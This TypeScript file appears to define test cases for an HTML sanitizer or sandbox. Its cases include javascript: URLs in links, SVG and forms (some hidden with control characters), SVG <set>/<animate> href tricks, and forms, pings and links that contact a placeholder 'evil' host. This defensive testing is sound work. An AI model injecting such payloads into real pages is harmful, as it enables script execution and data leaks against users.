import { add, type Attack, attacks, type Effect, HTML, LARGE, SVG } from "./attack.ts";

/** A link over the whole frame, to be clicked. */
function link(
  id: string,
  what: string,
  effect: Effect,
  attributes: (evil: string, code: string) => Record<string, string>,
): Attack {
  return {
    id,
    what,
    effect,
    act: "click",
    tell: (page, evil, code) =>
      add(page, 10, "a", { id: "t", style: LARGE, ...attributes(evil, code) }, "Go"),
  };
}

/** A link of SVG over the whole frame, with what is put into it. */
function svgLink(
  id: string,
  what: string,
  attributes: (code: string) => Record<string, string>,
  inner?: (code: string) => Record<string, string>,
  name = "set",
): Attack {
  return {
    id,
    what,
    effect: "ran",
    act: "click",
    tell: (page, _, code) => {
      add(page, 10, "svg", { id: "t", style: LARGE }, undefined, SVG);
      add(page, 11, "a", attributes(code), undefined, SVG, 10);
      add(page, 12, "rect", { width: "300", height: "200" }, undefined, SVG, 11);
      if (inner !== undefined) add(page, 13, name, inner(code), undefined, SVG, 11);
    },
  };
}

/** A form with a button over the whole frame. */
function form(
  id: string,
  what: string,
  effect: Effect,
  attributes: (evil: string, code: string) => Record<string, string>,
  button: (evil: string, code: string) => Record<string, string> = () => ({}),
): Attack {
  return {
    id,
    what,
    effect,
    act: "click",
    tell: (page, evil, code) => {
      add(page, 10, "form", attributes(evil, code));
      add(page, 11, "button", { id: "t", style: LARGE, ...button(evil, code) }, "Send", HTML, 10);
    },
  };
}

export const links = attacks([
  link("S3", "a link that runs", "ran", (_, code) => ({ href: `javascript:${code}` })),
  link("S3", "a link that runs, with control characters", "ran", (_, code) => ({
    href: `\u0001java\tscr\nipt:${code}`,
  })),
  svgLink("S3", "a link of SVG that runs", (code) => ({ href: `javascript:${code}` })),
  svgLink("S3", "a link of SVG that runs, with prefix", (code) => ({ "xlink:href": `javascript:${code}` })),
  svgLink(
    "S4",
    "a link that <set> makes",
    () => ({ href: "#" }),
    (code) => ({ attributeName: "href", to: `javascript:${code}` }),
  ),
  svgLink(
    "S4",
    "a link that <animate> makes",
    () => ({ href: "#" }),
    (code) => ({ attributeName: "href", values: `javascript:${code};javascript:${code}`, dur: "9s" }),
    "animate",
  ),
  form("S3", "a form that runs", "ran", (_, code) => ({ action: `javascript:${code}` })),
  form(
    "S3",
    "a button that runs",
    "ran",
    () => ({}),
    (_, code) => ({ formaction: `javascript:${code}` }),
  ),
  form("S7", "a form that is sent", "contact", (evil) => ({ action: `${evil}/form` })),
  form("S7", "a form that is posted", "contact", (evil) => ({ action: `${evil}/form`, method: "post" })),
  form("S7", "a form that is sent to the top", "navigated", (evil) => ({
    action: `${evil}/form`,
    target: "_top",
  })),
  form(
    "S7",
    "a button that sends a form",
    "contact",
    () => ({}),
    (evil) => ({ formaction: `${evil}/form` }),
  ),
  {
    id: "S7",
    what: "a form that Enter sends",
    effect: "contact",
    act: "enter",
    tell: (page, evil) => {
      add(page, 10, "form", { action: `${evil}/form` });
      add(page, 11, "input", { id: "t", style: LARGE }, undefined, HTML, 10);
    },
  },
  link("S8", "a link to elsewhere", "contact", (evil) => ({ href: `${evil}/link` })),
  {
    id: "S8",
    what: "an area of a map",
    effect: "contact",
    act: "click",
    tell: (page, evil) => {
      const picture =
        "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='300' height='200'/%3E";
      add(page, 10, "map", { name: "m" });
      add(page, 11, "area", { href: `${evil}/area`, shape: "default" }, undefined, HTML, 10);
      add(page, 12, "img", { id: "t", usemap: "#m", width: "300", height: "200", src: picture });
    },
  },
  link("S9", "a link to the top", "navigated", (evil) => ({ href: `${evil}/top`, target: "_top" })),
  link("S9", "a link to a new window", "popup", (evil) => ({
    href: `${evil}/blank`,
    target: "_blank",
    rel: "opener",
  })),
  link("S9", "a download", "download", () => ({
    href: "data:application/octet-stream,x",
    download: "x.exe",
  })),
  link("S9", "a ping", "contact", (evil) => ({ href: "#", ping: `${evil}/ping` })),
]);
